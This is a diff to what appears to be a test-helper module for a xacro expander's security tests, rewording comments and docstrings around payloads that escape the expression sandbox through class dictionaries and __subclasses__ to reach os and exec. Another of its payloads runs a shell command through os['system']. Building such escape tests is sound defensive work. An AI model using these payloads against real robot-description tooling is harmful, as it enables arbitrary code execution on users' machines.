@@ -13,9 +13,10 @@
 # limitations under the License.
 
 """
-Attacks on the process that expands xacro, from the inside: any Python text, run by a xacro file.
+Attacks on the process that expands xacro: a xacro file runs any Python text.
 
-The way in is one that no filter of names sees: class dictionaries, whose keys are strings.
+The attack uses the dictionaries of classes. Their keys are strings, so filters of names do not
+find it.
 
 """
 
@@ -24,7 +25,7 @@ from __future__ import annotations
 from pathlib import Path
 
 HEAD = '<robot name="r" xmlns:xacro="http://www.ros.org/wiki/xacro">'
-# From the dictionary of a class to what the module `os` holds.
+# The path from the dictionary of a class to the content of the module `os`.
 TO_OS = """\
 <xacro:property name="T" value="${python.vars(python.type)}"/>
 <xacro:property name="subs" value="${T['__subclasses__'](python.type.mro(int)[-1])}"/>
@@ -38,7 +39,7 @@ _ESCAPE = TO_OS + """\
 <xacro:property name="code" value="${b['open']('attack.py').read()}"/>
 <link name="${[b['exec'](code, n) or n['told'] for n in [b['dict']([('__builtins__', b)])]][0]}"/>
 """
-# The name of the link is the value that the text has put into `got`, or its failure.
+# The link is named after the value that the text stored in `got`, or after the error of the text.
 _FRAME = """\
 import ctypes
 import mmap
@@ -67,7 +68,7 @@ except BaseException as error:
     told = 'FAILED ' + type(error).__name__ + ' ' + str(error)
 """
 
-# A robot that stays whole where xacro is not run. xacro evaluates its property for the box.
+# A valid robot even if xacro does not run. xacro evaluates the property for the box.
 _MAKES = f"""{HEAD}{TO_OS}<xacro:property name="x" value="${{os['system']('touch MADE')}}"/>
 <link name="base"><visual><geometry><box size="1 1 ${{1 + x}}"/></geometry></visual></link>
 <link name="tip"/>
@@ -78,7 +79,7 @@ _MAKES = f"""{HEAD}{TO_OS}<xacro:property name="x" value="${{os['system']('touch
 
 
 def write_maker(file: Path) -> Path:
-    """Write a robot that makes a file when it is expanded; return the file that it makes."""
+    """Write a robot that creates a file when it is expanded. Return the path of that file."""
     made = file.with_name('made')
     file.write_text(_MAKES.replace('MADE', str(made)), encoding='utf-8')
     return made
@@ -86,16 +87,16 @@ def write_maker(file: Path) -> Path:
 
 def write_attack(folder: Path, attack: str, outside: Path) -> Path:
     """
-    Write a xacro file whose expansion runs a Python text; return it.
+    Write a xacro file whose expansion runs a Python text. Return its path.
 
     Parameters
     ----------
     folder : Path
-        Where the file lies, and from where it has to be expanded.
+        Folder of the file. It must be the working folder of the expansion.
     attack : str
-        The text; it may set ``got``, and knows the folder as ``HERE``.
+        The Python text. It may set ``got``. ``HERE`` is the folder.
     outside : Path
-        Its ``OUTSIDE``: a file that it must not read.
+        A file that the text must not be able to read, as ``OUTSIDE``.
 
     """
     text = _FRAME.format(here=str(folder), outside=str(outside), attack=attack)
